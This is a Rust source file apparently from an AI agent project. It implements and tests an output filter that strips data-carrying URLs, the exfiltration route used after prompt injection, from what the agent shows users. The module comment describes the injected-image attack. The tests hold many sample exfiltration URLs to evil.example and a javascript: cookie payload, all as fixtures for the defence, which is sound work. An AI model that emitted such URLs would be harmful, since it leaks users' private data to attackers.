//! The exfiltration output filter (the Bard attack): text shown to the user
//! (final answers, thoughts, tool results on screen) must not carry a URL
//! that sends data to a host off the allowlist.
//!
//! An injected page can ask the model to write
//! `![](https://evil.example/p.png?q=<the user's secrets>)`; a Markdown
//! renderer fetches the image without a click and the query reaches the
//! attacker. [`Filter::apply`] finds every URL in the text (inline Markdown
//! images and links, reference definitions, autolinks, HTML tags with URL
//! attributes, bare URLs), judges each one ([`Filter::judge`]) and replaces
//! the blocked ones with a note; the URL itself is removed. Every judgement
//! is returned as a [`Finding`], which the agent logs as a guard decision.
//!
//! What counts as data in a URL to a host off the allowlist:
//! - a query string, credentials (`user:pass@`), a fragment over 16 characters;
//! - a host label over 24 characters, or more than 5 labels (DNS exfiltration);
//! - in links: a path segment over 32 characters, one that looks encoded
//!   (16+ characters of base64/hex with letters and digits), 3+ percent
//!   escapes, `;` parameters, or a path over 100 characters;
//! - in images and other auto-loading HTML (`<img>`, `<iframe>`, `srcset`,
//!   CSS `url()`): any path at all, because they load without a click and a
//!   short path can still spell a secret.
//!
//! Links and images to allowlisted hosts pass; so do links off the
//! allowlist that carry no data, relative links and `data:` URLs (no
//! network). `javascript:` URLs are always removed.
//!
//! ```
//! use llmos_agent::exfil::Filter;
//! let f = Filter::new(&["docs.python.org"]);
//! let (out, found) = f.apply("![x](https://evil.example/a.png?d=SECRET) see [docs](https://docs.python.org/3/)");
//! assert!(!out.contains("evil.example/a.png") && !out.contains("SECRET"));
//! assert!(out.contains("(https://docs.python.org/3/)"));
//! assert_eq!(found.iter().filter(|f| f.blocked).count(), 1);
//! ```

use regex::{Captures, Regex};
use std::sync::LazyLock;

/// One URL judged.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Finding {
    /// `markdown image`, `markdown link`, `reference definition`, `autolink`, `HTML <img>`, `URL`.
    pub kind: String,
    /// The URL as written (shortened for logs by [`Finding::describe`]).
    pub url: String,
    /// The host it points to (lowercase), empty for relative and opaque URLs.
    pub host: String,
    /// Removed from the text.
    pub blocked: bool,
    /// Why.
    pub reason: String,
}

impl Finding {
    /// A one-line account for the guard log. It names the host, never the
    /// URL: the log is shown too, and the URL may hold the data.
    pub fn describe(&self) -> String {
        let what = if self.blocked { "removed" } else { "kept" };
        let to = if self.host.is_empty() {
            String::new()
        } else {
            format!(" to {}", short_host(&self.host))
        };
        format!("output filter: {what} {}{to}: {}", self.kind, self.reason)
    }
}

/// The filter: hosts that may receive data in URLs (the browse allowlist's
/// syntax: `example.org`, `*.example.org`, `127.0.0.1:8080`).
#[derive(Clone, Debug, Default)]
pub struct Filter {
    allow: Vec<String>,
    /// Passes everything ([`Filter::off`]).
    off: bool,
    /// Once untrusted data is in the context ([`Filter::after_untrusted`]):
    /// the hosts fetched in the run, the only ones the allowlist still
    /// trusts with data.
    visited: Option<Vec<String>>,
}

/// How a URL is judged: links need a click, images load by themselves.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Load {
    Click,
    Auto,
}

/// A judgement of one URL.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Judgement {
    pub blocked: bool,
    pub host: String,
    pub reason: String,
}

// One alternation, so each URL is matched once, leftmost first; the
// Markdown link text is filtered recursively (an image inside a link).
static RE: LazyLock<Regex> = LazyLock::new(|| {
    let html = r"<(?P<tag>[A-Za-z][A-Za-z0-9-]*)(?P<attrs>\s[^<>]*)?/?>";
    let auto = r"<(?P<auto>[A-Za-z][A-Za-z0-9+.-]{1,31}:[^\s<>]*)>";
    let refdef = r"(?m:^)[ ]{0,3}\[(?P<rlabel>[^\]\n]+)\]:[ \t]*(?P<rdest><[^<>\n]*>|\S+)[^\n]*";
    let md = r#"(?P<bang>!?)\[(?P<text>(?:[^\[\]\\]|\\.|\[(?:[^\[\]\\]|\\.)*\])*)\]\(\s*(?P<dest><[^<>\n]*>|[^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)(?:\s+(?:"[^"]*"|'[^']*'|\([^()]*\)))?\s*\)"#;
    let bare = r#"(?P<bare>(?:[A-Za-z][A-Za-z0-9+.-]*://|[Ww][Ww][Ww]\.)[^\s<>"'`]+)"#;
    Regex::new(&format!("{html}|{auto}|{refdef}|{md}|{bare}")).unwrap_or_else(|e| {
        // A constant pattern: a failure is a bug caught by every test.
        panic!("exfil regex: {e}")
    })
});

static ATTR: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"([A-Za-z_:][A-Za-z0-9_:.-]*)\s*=\s*("[^"]*"|'[^']*'|[^\s"'>]+)"#)
        .unwrap_or_else(|e| panic!("attr regex: {e}"))
});

/// URLs inside an attribute value or CSS: with a scheme, or protocol-relative.
static IN_VALUE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r#"(?:[A-Za-z][A-Za-z0-9+.-]*:)?//[^\s"'<>),]+|(?i:javascript|vbscript):[^\s"'<>]*"#)
        .unwrap_or_else(|e| panic!("value regex: {e}"))
});

/// Tags whose URLs need a click; every other tag's URLs may load by themselves.
const CLICK_TAGS: [&str; 4] = ["a", "area", "form", "button"];

impl Filter {
    pub fn new<S: AsRef<str>>(allow: &[S]) -> Filter {
        Filter {
            allow: allow
                .iter()
                .map(|s| s.as_ref().trim().to_ascii_lowercase())
                .filter(|s| !s.is_empty())
                .collect(),
            off: false,
            visited: None,
        }
    }

    /// A filter that removes nothing and judges nothing (a run without
    /// guards, `llmos agent --no-guards`, for evaluation only).
    pub fn off() -> Filter {
        Filter {
            off: true,
            ..Filter::default()
        }
    }

    /// This filter once untrusted data has entered the context: the
    /// allowlist then trusts with data only the hosts already fetched in the
    /// run (`visited`, lowercase). A URL rendered in the output is a fetch
    /// (an image loads by itself), so the capability policy's rule for
    /// `browse` holds: a new host after untrusted data needs approval, and
    /// nobody can be asked about an answer, so it is removed. Without this,
    /// an injected page could send data to any allowlisted host the run
    /// never visited, e.g. one under a broad `*.example.org` entry.
    pub fn after_untrusted(&self, visited: &std::collections::BTreeSet<String>) -> Filter {
        Filter {
            visited: Some(visited.iter().cloned().collect()),
            ..self.clone()
        }
    }

    /// The allowlist.
    pub fn hosts(&self) -> &[String] {
        &self.allow
    }

    fn allowed(&self, host: &str, port: Option<u16>, scheme: &str) -> bool {
        let port = port.unwrap_or(if scheme == "http" { 80 } else { 443 });
        self.allow.iter().any(|a| {
            if let Some(suffix) = a.strip_prefix("*.") {
                host == suffix || host.ends_with(&format!(".{suffix}"))
            } else if let Some((h, p)) =
                a.rsplit_once(':').filter(|(_, p)| p.parse::<u16>().is_ok())
            {
                host == h && p.parse::<u16>().ok() == Some(port)
            } else {
                host == a
            }
        })
    }

    /// Judges one URL (entity references already decoded or not: both work).
    pub fn judge(&self, raw: &str, load: Load) -> Judgement {
        let url = normalize(raw);
        let pass = |host: &str, reason: &str| Judgement {
            blocked: false,
            host: host.to_string(),
            reason: reason.to_string(),
        };
        let block = |host: &str, reason: String| Judgement {
            blocked: true,
            host: host.to_string(),
            reason,
        };
        let Some(u) = parse(&url) else {
            return pass("", "relative URL (no host)");
        };
        match u.scheme.as_str() {
            "javascript" | "vbscript" => return block("", "a script URL".into()),
            "data" | "tel" | "sms" | "about" | "blob" if u.host.is_empty() => {
                return pass("", "no network request");
            }
            _ => {}
        }
        // Only what a renderer or a click fetches can carry data away.
        if !["http", "https", "ftp", "ws", "wss", "mailto"].contains(&u.scheme.as_str()) {
            return pass(&u.host, "not a web URL");
        }
        if u.host.is_empty() {
            return if u.query.is_empty() {
                pass("", "no host")
            } else {
                block("", format!("a {} URL with a query string", u.scheme))
            };
        }
        let listed = self.allowed(&u.host, u.port, &u.scheme);
        match &self.visited {
            _ if !listed => {}
            None => return pass(&u.host, "host on the allowlist"),
            Some(v) if v.contains(&u.host) => {
                return pass(&u.host, "host on the allowlist, visited in this run")
            }
            // Judged as a host off the allowlist.
            Some(_) => {}
        }
        let off = |why: &str| {
            let standing = if listed {
                "is on the allowlist but was not visited in this run, untrusted data is in the context,"
            } else {
                "is not on the allowlist"
            };
            block(
                &u.host,
                format!(
                    "{} {standing} and the URL carries data ({why})",
                    short_host(&u.host)
                ),
            )
        };
        if !u.userinfo.is_empty() {
            return off("credentials");
        }
        if !u.query.is_empty() {
            return off("a query string");
        }
        if u.fragment.chars().count() > 16 {
            return off("a long fragment");
        }
        let labels: Vec<&str> = u.host.split('.').collect();
        if labels.len() > 5 || labels.iter().any(|l| l.len() > 24 || looks_encoded(l)) {
            return off("data in the host name");
        }
        let path = u.path.trim_end_matches('/');
        if load == Load::Auto && !path.is_empty() {
            return off("a path, and images load without a click");
        }
        if path.len() > 100 {
            return off("a long path");
        }
        if path.contains(';') {
            return off("path parameters");
        }
        if path.matches('%').count() >= 3 {
            return off("percent-encoded data in the path");
        }
        for seg in path.split('/') {
            if seg.chars().count() > 32 {
                return off("a long path segment");
            }
            if looks_encoded(seg) {
                return off("an encoded path segment");
            }
        }
        pass(&u.host, "off the allowlist, but no data in the URL")
    }

    /// Removes every blocked URL from `text`; returns the new text and every
    /// URL judged, in order.
    pub fn apply(&self, text: &str) -> (String, Vec<Finding>) {
        if self.off {
            return (text.to_string(), Vec::new());
        }
        let mut found = Vec::new();
        let out = self.apply_into(text, &mut found);
        (out, found)
    }

    fn apply_into(&self, text: &str, found: &mut Vec<Finding>) -> String {
        RE.replace_all(text, |c: &Captures| self.replace(c, found))
            .into_owned()
    }

    fn note(&self, kind: &str, url: &str, load: Load, found: &mut Vec<Finding>) -> Option<String> {
        let j = self.judge(url, load);
        found.push(Finding {
            kind: kind.to_string(),
            url: url.to_string(),
            host: j.host.clone(),
            blocked: j.blocked,
            reason: j.reason.clone(),
        });
        j.blocked.then(|| {
            let what = if load == Load::Auto { "image" } else { "link" };
            format!("[{what} removed by the output filter: {}]", j.reason)
        })
    }

    fn replace(&self, c: &Captures, found: &mut Vec<Finding>) -> String {
        let whole = c.get(0).map_or("", |m| m.as_str());
        if let Some(tag) = c.name("tag") {
            let attrs = c.name("attrs").map_or("", |m| m.as_str());
            let name = tag.as_str().to_ascii_lowercase();
            let load = if CLICK_TAGS.contains(&name.as_str()) {
                Load::Click
            } else {
                Load::Auto
            };
            let kind = format!("HTML <{name}>");
            let mut blocked = None;
            for a in ATTR.captures_iter(attrs) {
                let v = a.get(2).map_or("", |m| m.as_str());
                let v = decode_entities(v.trim_matches(['"', '\'']));
                let attr = a.get(1).map_or("", |m| m.as_str()).to_ascii_lowercase();
                // src/href/action/... may be relative; other attributes only matter with a full URL.
                let urls: Vec<String> = if [
                    "src",
                    "href",
                    "action",
                    "formaction",
                    "poster",
                    "background",
                    "data",
                    "xlink:href",
                    "ping",
                ]
                .contains(&attr.as_str())
                    && !v.contains(',')
                {
                    vec![v.clone()]
                } else {
                    IN_VALUE
                        .find_iter(&v)
                        .map(|m| m.as_str().to_string())
                        .collect()
                };
                for u in urls {
                    if let Some(n) = self.note(&kind, &u, load, found) {
                        blocked.get_or_insert(n);
                    }
                }
            }
            return blocked.unwrap_or_else(|| whole.to_string());
        }
        if let Some(u) = c.name("auto") {
            return self
                .note("autolink", u.as_str(), Load::Click, found)
                .unwrap_or_else(|| whole.to_string());
        }
        if let Some(d) = c.name("rdest") {
            let dest = d.as_str().trim_start_matches('<').trim_end_matches('>');
            // Whether it is used as an image is not known here: judge as one.
            return self
                .note("reference definition", dest, Load::Auto, found)
                .unwrap_or_else(|| whole.to_string());
        }
        if let Some(d) = c.name("dest") {
            let image = c.name("bang").is_some_and(|b| !b.as_str().is_empty());
            let text = c.name("text").map_or("", |m| m.as_str());
            let inner = self.apply_into(text, found);
            let dest = d.as_str().trim_start_matches('<').trim_end_matches('>');
            let (kind, load) = if image {
                ("markdown image", Load::Auto)
            } else {
                ("markdown link", Load::Click)
            };
            return match self.note(kind, dest, load, found) {
                Some(n) if image => n,
                Some(n) => format!("{inner} {n}"),
                None if inner == text => whole.to_string(),
                // Something inside the link text was removed: rebuild.
                None => whole.replacen(text, &inner, 1),
            };
        }
        if let Some(b) = c.name("bare") {
            // Trailing punctuation ends a sentence, not the URL (as GFM's autolinks).
            let s = b.as_str();
            let mut url =
                s.trim_end_matches(['.', ',', ';', ':', '!', '?', '*', '_', '~', '\'', '"']);
            while url.ends_with(')') && url.matches(')').count() > url.matches('(').count() {
                url = &url[..url.len() - 1];
            }
            while url.ends_with(']') {
                url = &url[..url.len() - 1];
            }
            let tail = &s[url.len()..];
            return match self.note("URL", url, Load::Click, found) {
                Some(n) => format!("{n}{tail}"),
                None => s.to_string(),
            };
        }
        whole.to_string()
    }
}

impl crate::Agent {
    /// `text` as the user may see it: blocked URLs removed by
    /// [`Agent::exfil`](crate::Agent::exfil); each URL judged is logged as a
    /// guard decision (`what`: answer, thought, result of a tool).
    pub fn screen(
        &self,
        step: usize,
        what: &str,
        text: &str,
        guard: &mut crate::guard::Guard,
        on_event: &mut dyn FnMut(crate::Event),
    ) -> String {
        let (out, found) = if guard.tainted() {
            self.exfil
                .after_untrusted(guard.visited_hosts())
                .apply(text)
        } else {
            self.exfil.apply(text)
        };
        for f in &found {
            let d = crate::guard::Decision {
                step,
                tool: what.to_string(),
                verdict: if f.blocked {
                    crate::guard::Verdict::Refuse
                } else {
                    crate::guard::Verdict::Allow
                },
                reason: f.describe(),
            };
            guard.log.push(d.clone());
            on_event(crate::Event::Guard(&d));
        }
        out
    }
}

/// The last two labels of a host, for notes (the rest may be the data).
fn short_host(host: &str) -> String {
    let labels: Vec<&str> = host.split('.').collect();
    let n = labels.len();
    let s = if n <= 2 {
        host.to_string()
    } else {
        labels[n - 2..].join(".")
    };
    s.chars().take(40).collect()
}

/// 16+ characters of a base64/hex alphabet with both letters and digits.
fn looks_encoded(seg: &str) -> bool {
    let seg = seg
        .rsplit_once('.')
        .map_or(seg, |(stem, ext)| if ext.len() <= 4 { stem } else { seg });
    seg.len() >= 16
        && seg
            .chars()
            .all(|c| c.is_ascii_alphanumeric() || "+-_=".contains(c))
        && seg.chars().any(|c| c.is_ascii_digit())
        && seg.chars().any(|c| c.is_ascii_alphabetic())
}

/// What a browser does before parsing: entities decoded (Markdown and HTML
/// decode them in destinations), tabs and newlines dropped, `\` as `/`.
fn normalize(raw: &str) -> String {
    decode_entities(raw.trim())
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .map(|c| if c == '\\' { '/' } else { c })
        .collect()
}

/// Numeric character references and the named ones that spell URLs.
fn decode_entities(s: &str) -> String {
    if !s.contains('&') {
        return s.to_string();
    }
    let mut out = String::with_capacity(s.len());
    let mut rest = s;
    while let Some(i) = rest.find('&') {
        out.push_str(&rest[..i]);
        rest = &rest[i..];
        let end = rest[1..]
            .find(|c: char| !c.is_ascii_alphanumeric() && c != '#')
            .map_or(rest.len(), |e| e + 1);
        let name = &rest[1..end];
        let ch = if let Some(n) = name.strip_prefix("#x").or_else(|| name.strip_prefix("#X")) {
            u32::from_str_radix(n, 16).ok().and_then(char::from_u32)
        } else if let Some(n) = name.strip_prefix('#') {
            n.parse::<u32>().ok().and_then(char::from_u32)
        } else {
            match name {
                "amp" => Some('&'),
                "colon" => Some(':'),
                "sol" => Some('/'),
                "period" => Some('.'),
                "quest" => Some('?'),
                "equals" => Some('='),
                "lt" => Some('<'),
                "gt" => Some('>'),
                "quot" => Some('"'),
                "apos" => Some('\''),
                "Tab" | "NewLine" => Some(' '),
                _ => None,
            }
        };
        match ch {
            Some(c) => {
                out.push(c);
                rest = &rest[end..];
                rest = rest.strip_prefix(';').unwrap_or(rest);
            }
            None => {
                out.push('&');
                rest = &rest[1..];
            }
        }
    }
    out.push_str(rest);
    out
}

struct Url {
    scheme: String,
    userinfo: String,
    host: String,
    port: Option<u16>,
    path: String,
    query: String,
    fragment: String,
}

/// A URL's parts, or None for a relative reference (no scheme, no `//`).
fn parse(url: &str) -> Option<Url> {
    let lower = url.to_ascii_lowercase();
    let (scheme, rest) = match url.find(':') {
        _ if lower.starts_with("www.") || url.starts_with("//") => ("https".to_string(), url),
        Some(i)
            if i > 0
                && url[..i]
                    .chars()
                    .next()
                    .is_some_and(|c| c.is_ascii_alphabetic())
                && url[..i]
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+.-".contains(c)) =>
        {
            (url[..i].to_ascii_lowercase(), &url[i + 1..])
        }
        _ => return None,
    };
    let special = ["http", "https", "ws", "wss", "ftp"].contains(&scheme.as_str());
    let (authority, after) = if special || rest.starts_with("//") {
        // Browsers take any number of slashes after a special scheme.
        let r = rest.trim_start_matches('/');
        let end = r.find(['/', '?', '#']).unwrap_or(r.len());
        (&r[..end], &r[end..])
    } else if scheme == "mailto" {
        // mailto:someone@host?body=...: the host is after the '@'.
        let end = rest.find(['?', '#']).unwrap_or(rest.len());
        let host = rest[..end].rsplit_once('@').map_or("", |(_, h)| h);
        return Some(Url {
            scheme,
            userinfo: String::new(),
            host: host.to_ascii_lowercase(),
            port: None,
            path: String::new(),
            query: rest[end..].trim_start_matches('?').to_string(),
            fragment: String::new(),
        });
    } else {
        ("", rest)
    };
    let (userinfo, hostport) = authority.rsplit_once('@').unwrap_or(("", authority));
    let (host, port) = if let Some(v6) = hostport.strip_prefix('[') {
        // [::1]:8080
        let (h, p) = v6.split_once(']').unwrap_or((v6, ""));
        (
            h.to_string(),
            p.strip_prefix(':').and_then(|p| p.parse().ok()),
        )
    } else {
        match hostport.rsplit_once(':') {
            Some((h, p)) if p.chars().all(|c| c.is_ascii_digit()) => {
                (h.to_string(), p.parse().ok())
            }
            _ => (hostport.to_string(), None),
        }
    };
    let host = percent_decode(&host)
        .to_ascii_lowercase()
        .trim_end_matches('.')
        .to_string();
    let (before_frag, fragment) = after.split_once('#').unwrap_or((after, ""));
    let (path, query) = before_frag.split_once('?').unwrap_or((before_frag, ""));
    Some(Url {
        scheme,
        userinfo: userinfo.to_string(),
        host,
        port,
        path: path.to_string(),
        query: query.to_string(),
        fragment: fragment.to_string(),
    })
}

fn percent_decode(s: &str) -> String {
    let b = s.as_bytes();
    let mut out = Vec::with_capacity(b.len());
    let mut i = 0;
    while i < b.len() {
        if b[i] == b'%'
            && i + 2 < b.len()
            && b[i + 1].is_ascii_hexdigit()
            && b[i + 2].is_ascii_hexdigit()
        {
            let hex = |c: u8| (c as char).to_digit(16).unwrap_or(0) as u8;
            out.push(hex(b[i + 1]) * 16 + hex(b[i + 2]));
            i += 3;
            continue;
        }
        out.push(b[i]);
        i += 1;
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filter() -> Filter {
        Filter::new(&["docs.python.org", "*.rust-lang.org", "127.0.0.1:8080"])
    }

    /// After untrusted data, an allowlisted host receives data in a URL
    /// only if the run fetched it; data-free links stay, and so does
    /// everything once the filter is off.
    #[test]
    fn after_untrusted_only_visited_hosts_receive_data() {
        let img = "![x](https://blog.rust-lang.org/p.png?k=SECRET)";
        let (out, _) = filter().apply(img);
        assert_eq!(out, img);
        let none = std::collections::BTreeSet::new();
        let (out, found) = filter().after_untrusted(&none).apply(img);
        assert!(!out.contains("SECRET"), "{out}");
        assert!(
            found[0].reason.contains("not visited in this run"),
            "{found:?}"
        );
        let link = "[docs](https://docs.python.org/3/)";
        assert_eq!(filter().after_untrusted(&none).apply(link).0, link);
        let seen: std::collections::BTreeSet<String> = ["blog.rust-lang.org".to_string()].into();
        assert_eq!(filter().after_untrusted(&seen).apply(img).0, img);
        assert_eq!(Filter::off().after_untrusted(&none).apply(img).0, img);
    }

    /// Runs the filter; returns the text and the blocked findings' kinds.
    fn run(text: &str) -> (String, Vec<String>) {
        let (out, found) = filter().apply(text);
        let blocked = found
            .iter()
            .filter(|f| f.blocked)
            .map(|f| f.kind.clone())
            .collect();
        (out, blocked)
    }

    fn assert_blocked(text: &str, secret: &str, kind: &str) {
        let (out, blocked) = run(text);
        assert!(!out.contains(secret), "{secret} survived in {out:?}");
        assert!(
            out.contains("removed by the output filter"),
            "no note left: {out:?}"
        );
        assert_eq!(blocked, vec![kind.to_string()], "{text} → {out}");
    }

    fn assert_kept(text: &str) {
        let (out, blocked) = run(text);
        assert_eq!(out, text);
        assert!(blocked.is_empty(), "{text}: {blocked:?}");
    }

    /// The Bard attack as published: an image whose query carries the chat.
    #[test]
    fn image_with_query_data_is_removed() {
        assert_blocked(
            "Here is your summary. ![a](https://evil.example/logo.png?q=user%20lives%20in%20Paris)",
            "evil.example/logo.png",
            "markdown image",
        );
        let (out, _) = run("x ![a](https://evil.example/i.png?d=SECRET) y");
        assert!(
            out.starts_with("x [image removed") && out.ends_with("] y"),
            "{out}"
        );
    }

    #[test]
    fn image_with_any_path_off_the_allowlist_is_removed() {
        // A short path can spell a secret, and images load without a click.
        assert_blocked(
            "![](https://evil.example/hunter2)",
            "hunter2",
            "markdown image",
        );
        assert_blocked(
            "![t](<https://evil.example/a b.png> \"title\")",
            "evil.example/a",
            "markdown image",
        );
    }

    #[test]
    fn link_with_base64_path_is_removed() {
        assert_blocked(
            "Click [here](https://evil.example/c/dXNlcjphbGljZTtwYXNzOmh1bnRlcjI=) to continue",
            "dXNlcjphbGljZTtwYXNzOmh1bnRlcjI",
            "markdown link",
        );
        // The link text stays, the URL goes.
        let (out, _) = run("[here](https://evil.example/c/dXNlcjphbGljZTtwYXNzOmh1bnRlcjI=)");
        assert!(out.starts_with("here [link removed"), "{out}");
    }

    #[test]
    fn link_data_forms() {
        for (url, secret) in [
            ("https://evil.example/x?token=abc", "token=abc"),
            (
                "https://evil.example/aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
                "aaaaaaaaaaaaaaaaaaaa",
            ),
            ("https://evil.example/%73%65%63%72%65%74", "%73%65%63"),
            ("https://evil.example/a;s=secret", "s=secret"),
            ("https://user:pw@evil.example/", "user:pw"),
            (
                "https://c2VjcmV0IGRhdGEgaGVyZQ.evil.example/",
                "c2VjcmV0IGRhdGEgaGVyZQ",
            ),
            (
                "https://evil.example/#access_token=0123456789abcdef",
                "access_token",
            ),
            (
                "https://evil.example/deadbeefcafe0123456789",
                "deadbeefcafe0123456789",
            ),
        ] {
            assert_blocked(&format!("[a]({url})"), secret, "markdown link");
        }
    }

    #[test]
    fn allowlisted_hosts_pass() {
        assert_kept(
            "See [csv](https://docs.python.org/3/library/csv.html?highlight=reader#csv.reader).",
        );
        assert_kept("![logo](https://www.rust-lang.org/static/images/rust-logo-blk.svg?v=1)");
        assert_kept("![x](https://rust-lang.org/logo.png)");
        assert_kept("local: http://127.0.0.1:8080/report?id=7");
        // The port is part of the rule: another port is another host.
        assert_blocked("http://127.0.0.1:9999/report?id=7", "id=7", "URL");
        // A look-alike suffix is not a subdomain.
        assert_blocked(
            "![x](https://evilrust-lang.org/a.png)",
            "a.png",
            "markdown image",
        );
    }

    #[test]
    fn links_off_the_allowlist_without_data_pass() {
        assert_kept("Read [the guide](https://example.com/docs/getting-started) first.");
        assert_kept("Home: https://example.com/");
        assert_kept("[rel](../README.md) and [anchor](#usage) and ![pic](img/diagram.png)");
        assert_kept("![inline](data:image/png;base64,iVBORw0KGgo=)");
    }

    #[test]
    fn reference_style_definitions() {
        let text = "Summary done. ![logo][1]\n\n[1]: https://evil.example/p.png?d=c2VjcmV0 \"t\"\n";
        let (out, blocked) = run(text);
        assert!(
            !out.contains("evil.example/p.png") && !out.contains("c2VjcmV0"),
            "{out}"
        );
        assert_eq!(blocked, vec!["reference definition"]);
        assert!(
            out.contains("![logo][1]"),
            "the reference stays as text: {out}"
        );
        assert_kept("[docs][d]\n\n[d]: <https://docs.python.org/3/>\n");
    }

    #[test]
    fn html_img_tags() {
        assert_blocked(
            "<img src=\"https://evil.example/t.gif?u=alice\" width=1>",
            "u=alice",
            "HTML <img>",
        );
        assert_blocked(
            "<IMG SRC='//evil.example/t.gif'>",
            "evil.example/t.gif",
            "HTML <img>",
        );
        // Entity-encoded URL (HTML decodes it before fetching).
        assert_blocked(
            "<img src=\"&#104;ttps&#58;//evil.example/x&#63;d&#61;secret\">",
            "secret",
            "HTML <img>",
        );
        assert_blocked(
            "<img srcset=\"a.png 1x, https://evil.example/b.png?d=1 2x\">",
            "evil.example/b.png",
            "HTML <img>",
        );
        assert_blocked(
            "<div style=\"background:url(https://evil.example/bg.png?k=v)\">x</div>",
            "k=v",
            "HTML <div>",
        );
        assert_blocked(
            "<a href=\"https://evil.example/?session=42\">docs</a>",
            "session=42",
            "HTML <a>",
        );
        assert_kept("<img src=\"https://docs.python.org/3/_static/py.svg?x=1\">");
        assert_kept("<b>bold</b> and <a href=\"https://example.com/about\">about</a>");
    }

    #[test]
    fn autolinks_and_bare_urls() {
        assert_blocked("<https://evil.example/?q=secret>", "q=secret", "autolink");
        assert_blocked("go to https://evil.example/?q=secret.", "q=secret", "URL");
        let (out, _) = run("(see https://evil.example/?q=secret)");
        assert!(out.ends_with(']') || out.ends_with("])"), "{out}");
        assert!(out.ends_with(')'), "closing parenthesis kept: {out}");
        assert_blocked("www.evil.example/?q=secret", "q=secret", "URL");
        assert_blocked(
            "<mailto:x@evil.example?body=secret>",
            "body=secret",
            "autolink",
        );
    }

    #[test]
    fn image_inside_a_link() {
        let (out, blocked) =
            run("[![badge](https://evil.example/b.svg?s=1)](https://evil.example/?t=2)");
        assert!(!out.contains("s=1") && !out.contains("t=2"), "{out}");
        assert_eq!(blocked, vec!["markdown image", "markdown link"]);
    }

    #[test]
    fn obfuscations() {
        // Backslashes, extra slashes, tabs: browsers normalise them.
        assert_blocked(
            "![a](https:\\\\evil.example\\x.png)",
            "x.png",
            "markdown image",
        );
        assert_blocked("![a](https:/evil.example/x.png)", "x.png", "markdown image");
        assert_blocked(
            "![a](https://evil.example/x.png&#63;d=1)",
            "d=1",
            "markdown image",
        );
        assert_blocked(
            "[a](javascript:alert(document.cookie))",
            "javascript",
            "markdown link",
        );
    }

    #[test]
    fn every_url_is_a_finding() {
        let (_, found) =
            filter().apply("[a](https://example.com/) ![b](https://docs.python.org/x.png) c");
        assert_eq!(found.len(), 2);
        assert!(found.iter().all(|f| !f.blocked));
        assert!(
            found[1].describe().contains("host on the allowlist"),
            "{}",
            found[1].describe()
        );
    }

    /// Found by docs-helper: a documented database URL is not a web link.
    #[test]
    fn non_web_schemes_pass() {
        assert_kept("llmos ingest --vector-store postgres://llmos@db:5432/rag?sslmode=require");
        assert_kept("ssh://git@example.com/repo.git and file:///etc/hosts");
    }

    #[test]
    fn text_without_urls_is_untouched() {
        for t in [
            "The answer is 42.",
            "a [bracket] and (parens) and <b>",
            "2 < 3 and 5 > 4",
            "code: `x = y[0](z)`",
            "",
        ] {
            assert_kept(t);
        }
    }
}
